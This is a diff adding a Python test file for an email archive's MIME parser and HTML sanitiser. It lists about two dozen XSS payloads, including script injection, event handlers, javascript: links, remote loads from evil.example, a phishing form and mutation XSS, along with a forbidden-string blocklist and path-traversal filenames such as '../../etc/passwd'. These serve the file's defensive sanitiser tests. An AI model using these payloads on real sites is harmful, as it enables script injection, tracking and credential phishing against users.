@@ -1,0 +1,169 @@
+"""The MIME reader and the HTML sanitiser (CONTRACT §15), pure: no database, no web."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime
+
+import pytest
+
+from archivist.archive.mime import (
+    NotAMessageError,
+    decode_text,
+    html_to_text,
+    parse_message,
+    pdf_text,
+    readable_text,
+    safe_filename,
+    sanitize_html,
+)
+from archivist.archive.models import Direction
+from tests import mail_samples as samples
+
+RECEIVED = datetime(2026, 3, 9, 12, 0, tzinfo=UTC)
+
+# What must never survive sanitising, whatever the payload.
+FORBIDDEN = (
+    "<script",
+    "onerror",
+    "onload",
+    "onclick",
+    "onmouseover",
+    "javascript:",
+    "vbscript:",
+    "evil.example",
+    "url(",
+    "expression(",
+    "<svg",
+    "<iframe",
+    "<object",
+    "<embed",
+    "<form",
+    "<meta",
+    "<base",
+    "<link",
+    "<style",
+    "data:text",
+)
+
+XSS = [
+    "<script>alert(1)</script>",  # a plain script element
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",  # a remote script, upper case
+    "<img src=x onerror=alert(1)>",  # an event handler on an image
+    '<a href="javascript:alert(1)">click</a>',  # a javascript: link
+    '<a href="JaVaScRiPt:alert(1)">click</a>',  # the scheme in mixed case
+    '<a href="java&#x09;script:alert(1)">click</a>',  # a tab entity inside the scheme
+    '<a href="vbscript:msgbox(1)">click</a>',  # another script scheme
+    "<svg onload=alert(1)><circle r=5></svg>",  # SVG with onload
+    '<img src="https://evil.example/pixel.gif">',  # a remote image (a read receipt)
+    '<img srcset="https://evil.example/a.png 1x">',  # a remote image through srcset
+    '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>',  # a legacy background
+    '<div style="background:url(https://evil.example/x.png)">x</div>',  # CSS url() in a style attribute
+    '<div style="width: expression(alert(1))">x</div>',  # old IE CSS expressions
+    "<style>@import url(https://evil.example/x.css); body{background:red}</style>",  # a style element
+    '<link rel="stylesheet" href="https://evil.example/x.css">',  # a remote stylesheet
+    '<iframe src="https://evil.example/"></iframe>',  # a frame
+    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',  # plugins
+    '<form action="https://evil.example/"><input name="pw"></form>',  # a phishing form
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',  # a redirect
+    '<base href="https://evil.example/">',  # rebasing relative links
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',  # a data: document
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',  # an SVG data image
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",  # mutation XSS
+    '<p onmouseover="alert(1)" title="x">hover</p>',  # an event handler on text
+    "<!--<img src=x onerror=alert(1)>-->",  # inside a comment
+]
+
+
+@pytest.mark.parametrize("payload", XSS)
+def test_the_sanitiser_leaves_nothing_that_runs_or_loads(payload: str) -> None:
+    cleaned = sanitize_html(payload).lower()
+    for forbidden in FORBIDDEN:
+        assert forbidden not in cleaned, (payload, cleaned)
+
+
+def test_the_sanitiser_keeps_presentation_inline_images_and_web_links() -> None:
+    png = "data:image/png;base64,iVBORw0KGgo="
+    html = (
+        '<p style="color: red; font-weight: bold">Hei <b>Kari</b></p>'
+        f'<a href="https://example.no/faktura">faktura</a><img src="{png}" alt="logo">'
+        "<table><tr><td>1</td></tr></table>"
+    )
+    cleaned = sanitize_html(html)
+    assert "<b>Kari</b>" in cleaned
+    assert "color:red" in cleaned.replace(" ", "")
+    assert 'href="https://example.no/faktura"' in cleaned
+    assert f'src="{png}"' in cleaned
+    assert "<td>1</td>" in cleaned
+
+
+@pytest.mark.parametrize(
+    ("data", "charset", "text"),
+    [
+        ("Blåbær".encode(), "iso-8859-1", "Blåbær"),  # declared Latin-1, written in UTF-8
+        ("Blåbær".encode("latin-1"), "iso-8859-1", "Blåbær"),  # Latin-1 as declared
+        ("“Hei”".encode("cp1252"), "windows-1252", "“Hei”"),  # curly quotes of Windows-1252
+        ("Blåbær".encode("latin-1"), "utf-8", "Blåbær"),  # declared UTF-8, written in Latin-1
+        ("Blåbær".encode(), "x-no-such-charset", "Blåbær"),  # an unknown charset
+        (b"plain", "base64", "plain"),  # a codec that is no charset
+        (b"a\x00b", None, "a\ufffdb"),  # NUL, which no database stores
+        ("Ærlig".encode("iso-8859-15"), '"ISO-8859-15"', "Ærlig"),  # a quoted charset name
+    ],
+)
+def test_text_is_decoded_whatever_charset_it_claims(data: bytes, charset: str | None, text: str) -> None:
+    assert decode_text(data, charset) == text
+
+
+def test_a_body_without_a_header_block_is_not_a_message() -> None:
+    for data in (b"", b"\x89PNG\r\n\x1a\n\x00\x00", b"no header here\r\n\r\nbody"):
+        with pytest.raises(NotAMessageError):
+            parse_message(data, received_at=RECEIVED)
+
+
+def test_direction_and_customer_follow_the_own_domains() -> None:
+    inbound = parse_message(samples.with_attachments(), received_at=RECEIVED, own_domains=["centre.example"])
+    assert (inbound.direction, inbound.customer_email, inbound.customer_name) == (
+        Direction.INBOUND,
+        samples.ADDRESS,
+        "Kari Nordmann",
+    )
+    # The forward comes from the centre's domain: outbound, to the first address outside it.
+    outbound = parse_message(samples.forwarded(), received_at=RECEIVED, own_domains=["Centre.Example"])
+    assert (outbound.direction, outbound.customer_email) == (Direction.OUTBOUND, "backoffice@partner.example")
+    # Without own domains every message is inbound.
+    assert parse_message(samples.forwarded(), received_at=RECEIVED).direction is Direction.INBOUND
+
+
+def test_a_forwarded_message_is_text_and_its_attachment_is_listed() -> None:
+    parsed = parse_message(samples.forwarded(), received_at=RECEIVED)
+    assert "From: Kari Nordmann <kari.nordmann@example.no>" in parsed.body
+    assert "Jeg vil klage. Ring 912 34 567." in parsed.body
+    assert [(a.filename, a.content_type) for a in parsed.attachments] == [("notat.txt", "text/plain")]
+    assert parsed.attachments[0].payload() == f"Notat: tlf {samples.PHONE}\n".encode()
+
+
+def test_the_text_of_a_pdf_and_of_text_attachments_is_read() -> None:
+    pdf = samples.pdf_with_text("Faktura", f"tlf {samples.PHONE_WRITTEN}")
+    assert f"tlf {samples.PHONE_WRITTEN}" in (pdf_text(pdf) or "")
+    assert readable_text("text/html", b"<p>Ring <b>912 34 567</b></p>") == "Ring 912 34 567"
+    assert readable_text("image/png", b"\x89PNG") is None
+    assert pdf_text(b"%PDF-1.4 broken") is None
+
+
+@pytest.mark.parametrize(
+    ("name", "safe"),
+    [
+        ("../../etc/passwd", "passwd"),  # a path climbing out
+        ("C:\\Windows\\boot.ini", "boot.ini"),  # a Windows path
+        ('fak"tura<1>.pdf', "faktura1.pdf"),  # characters no file system takes
+        ("rapport\x00.pdf", "rapport.pdf"),  # a control character
+        ("...", ""),  # nothing left: the caller names it
+        ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),  # too long, the extension kept
+    ],
+)
+def test_attachment_names_are_made_safe(name: str, safe: str) -> None:
+    assert safe_filename(name) == safe
+
+
+def test_html_reads_as_text_without_tags_scripts_or_styles() -> None:
+    text = html_to_text("<style>p{}</style><p>Hei&nbsp;Kari</p><script>x()</script><div>Ring 912 34 567</div>")
+    assert text == "Hei Kari\n\nRing 912 34 567"  # a no-break space reads as a space
